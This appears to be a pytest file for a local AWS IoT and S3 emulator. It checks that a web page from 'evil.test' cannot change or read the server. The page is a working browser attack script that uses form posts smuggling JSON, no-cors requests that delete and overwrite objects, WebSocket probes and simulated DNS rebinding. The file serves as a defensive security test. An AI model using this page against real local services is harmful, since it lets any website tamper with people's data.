"""A page in a real Chromium tries to use a server without authentication that listens on this machine's loopback.

The page is loaded from a name and from another port of this machine. It sends what browsers let any page send, and asks
for everything again from its own origin, as if its name had been rebound to the server.
"""

from __future__ import annotations

import http.client
import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.servers import Started, options, started
from tidegate.net import pages

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
PATIENCE = 60
RESOLVES = "MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
IMAGE = b'<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"><rect width="7" height="7"/></svg>'
PAGE = """<!doctype html><title>page</title><body><script>
const iot = "http://127.0.0.1:IOT", objects = "http://127.0.0.1:OBJECTS", got = [];
const soon = promise => Promise.race([promise, new Promise(done => setTimeout(done, 3000))]);

const ask = async (what, url, options) => {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    if (answer.ok && text) got.push(what + ": " + text.slice(0, 60));
  } catch (error) {}
};
const element = (what, tag, url) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => { if (tag != "iframe") got.push(what); done(); };
  made.onerror = done;
  made.src = url;
  document.body.append(made);
});
const submit = (url, fields) => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "frame" + Math.random();
  Object.assign(form, {action: url, method: "post", enctype: "text/plain", target: frame.name});
  for (const [name, value] of fields) {
    const input = document.createElement("input");
    Object.assign(input, {name, value, type: "hidden"});
    form.append(input);
  }
  document.body.append(frame, form);
  frame.onload = done;
  form.submit();
});
const socket = (what, url) => new Promise(done => {
  const made = new WebSocket(url, "mqtt");
  made.onopen = () => { got.push(what); made.close(); done(); };
  made.onerror = done;
});
const events = (what, url) => new Promise(done => {
  const made = new EventSource(url);
  made.onopen = () => got.push(what);
  made.onerror = () => { made.close(); done(); };
});

const rebound = async () => {  // as if evil.test, from which this page came, were now the address of the server
  await Promise.all([
    ask("rebound things", "/rebound/iot/things"),
    ask("rebound shadow", "/rebound/iot/things/lamp/shadow", {method: "POST", body: '{"state":{"desired":{"a":1}}}'}),
    ask("rebound thing", "/rebound/iot/things/of-a-page", {method: "POST", body: "{}"}),
    ask("rebound metrics", "/rebound/iot/metrics"),
    ask("rebound health", "/rebound/iot/_tidegate/health"),
    ask("rebound object", "/rebound/objects/bucket/image"),
    ask("rebound S3 DELETE", "/rebound/objects/bucket/kept", {method: "DELETE"}),
    ask("rebound S3 PUT", "/rebound/objects/bucket/of-a-page", {method: "PUT", body: "x"}),
  ]);
  await ask("rebound reset", "/rebound/iot/_tidegate/reset", {method: "POST"});
};

(async () => {
  const blind = body => ({method: "POST", mode: "no-cors", body});
  await Promise.all([
    submit(iot + "/keys-and-certificate?setAsActive=true", []),
    submit(iot + "/policies/of-a-form", [['{"policyDocument":"{}", "x":"', '"}']]),
    ask("publish", iot + "/topics/of/a/page?qos=1", blind("hello")),
    ask("shadow", iot + "/things/lamp/shadow", blind('{"state":{"desired":{"on":true}}}')),
    ask("thing", iot + "/things/of-a-page", blind("{}")),
    ask("clock", iot + "/_tidegate/clock", blind('{"advance": 86400}')),
    ask("S3 delete by POST", objects + "/bucket?delete", blind("<Delete><Object><Key>kept</Key></Object></Delete>")),
    ask("S3 DELETE", objects + "/bucket/kept", {method: "DELETE"}),
    ask("S3 PUT", objects + "/bucket/of-a-page", {method: "PUT", body: "x"}),
    ask("things", iot + "/things"),
    ask("things of a name", "http://evil.test:IOT/things"),
    soon(element("image", "img", objects + "/bucket/image")),
    soon(element("script", "script", iot + "/metrics")),
    soon(element("frame", "iframe", iot + "/things")),
    soon(socket("WebSocket", "ws://127.0.0.1:IOT/mqtt")),
    soon(socket("WebSocket by a name", "ws://evil.test:IOT/mqtt")),
    soon(events("events", iot + "/metrics")),
  ]);
  if (location.hostname == "evil.test") await rebound();
  navigator.sendBeacon(iot + "/_tidegate/reset", "");
  await submit(iot + "/_tidegate/reset", []);
  await fetch("/told", {method: "POST", body: JSON.stringify([location.hostname, got])});
  // The same again from another port of this machine.
  if (location.hostname == "evil.test") element("", "iframe", "http://127.0.0.1:" + location.port);
})();
</script>"""


class Site(ThreadingHTTPServer):
    """Serves the page, hears what it got, and stands in for a rebound name: passes requests on as they came."""

    daemon_threads = True

    def __init__(self, server: Started) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.behind = {name: urlsplit(getattr(server.addresses, name)).netloc for name in ("http", "objects")}
        ports = {name: place.rpartition(":")[2] for name, place in self.behind.items()}
        self.page = PAGE.replace("IOT", ports["http"]).replace("OBJECTS", ports["objects"]).encode()
        self.told: queue.Queue[tuple[str, list[str]]] = queue.Queue()


class Visit(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", "0")))
        if self.path == "/told":
            self.server.told.put(tuple(json.loads(body)))
        elif self.path.startswith("/rebound/"):
            self._pass_on(body)
            return
        self._answer(200, "text/html", self.server.page if self.path == "/" else b"")

    do_POST = do_PUT = do_DELETE = do_GET  # noqa: N815 - the base class calls them so

    def _pass_on(self, body: bytes) -> None:
        _, _, whose, path = self.path.split("/", 3)
        connection = http.client.HTTPConnection(self.server.behind["http" if whose == "iot" else whose], timeout=20)
        connection.putrequest(self.command, f"/{path}", skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        with connection.getresponse() as answer:
            self._answer(answer.status, answer.headers.get("content-type", "text/plain"), answer.read())
        connection.close()

    def _answer(self, status: int, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@contextmanager
def site(server: Started) -> Iterator[Site]:
    with Site(server) as made:
        thread = threading.Thread(target=made.serve_forever)
        thread.start()
        try:
            yield made
        finally:
            made.shutdown()
            thread.join()


@contextmanager
def chromium(folder: Path, url: str) -> Iterator[None]:
    """A browser that looks at a page until the block is left."""
    assert CHROMIUM is not None
    command = [
        *(CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"),
        *("--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions"),
        f"--host-resolver-rules={RESOLVES}",
        f"--user-data-dir={folder}",
        url,
    ]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        try:
            yield
        finally:
            process.terminate()
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()


def attempts(server: Started, folder: Path) -> dict[str, list[str]]:
    """What the page got, by the host that it was loaded from."""
    with site(server) as visited:
        port = visited.server_port
        with chromium(folder, f"http://evil.test:{port}/"):
            return dict(visited.told.get(timeout=PATIENCE) for _ in range(2))


def state(server: Started) -> dict[str, Any]:
    """What there is on a server, by the eyes of those who may look."""
    iot, s3 = server.client("iot"), server.client("s3", region_name="us-east-1")
    buckets = [bucket["Name"] for bucket in s3.list_buckets()["Buckets"]]
    return {
        "things": [thing["thingName"] for thing in iot.list_things()["things"]],
        "certificates": len(iot.list_certificates()["certificates"]),
        "policies": iot.list_policies()["policies"],
        "shadows": server.client("iot-data").list_named_shadows_for_thing(thingName="lamp")["results"],
        "objects": [each["Key"] for name in buckets for each in s3.list_objects_v2(Bucket=name).get("Contents", [])],
        "clock": json.loads(server.fetch("/_tidegate/clock")[2])["epochMs"],
    }


@pytest.fixture
def tempting(tmp_path: Path) -> Iterator[Started]:
    """A default server on a movable clock that has something to lose."""
    with started(options(tmp_path / "data", clock="movable")) as server:
        server.client("iot").create_thing(thingName="lamp")
        s3 = server.client("s3", region_name="us-east-1")
        s3.create_bucket(Bucket="bucket")
        s3.put_object(Bucket="bucket", Key="kept", Body=b"kept")
        s3.put_object(Bucket="bucket", Key="image", Body=IMAGE, ContentType="image/svg+xml")
        yield server


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
def test_a_page_changes_nothing_and_reads_nothing(tempting: Started, tmp_path: Path) -> None:
    before = state(tempting)
    assert attempts(tempting, tmp_path / "browser") == {"evil.test": [], "127.0.0.1": []}
    assert state(tempting) == before


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
def test_where_nobody_looks_it_does(tempting: Started, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """That the page is able to do harm: it makes the test above worth something."""
    monkeypatch.setattr(pages, "refusal", lambda *_: None)
    got = attempts(tempting, tmp_path / "browser")
    names = {host: {each.partition(":")[0] for each in found} for host, found in got.items()}
    assert {"image", "WebSocket", "WebSocket by a name"} <= names["evil.test"]
    assert {"rebound things", "rebound object", "rebound reset"} <= names["evil.test"]
    assert {"WebSocket", "WebSocket by a name"} <= names["127.0.0.1"]
    assert tempting.client("iot").list_things()["things"] == [], "it was reset"
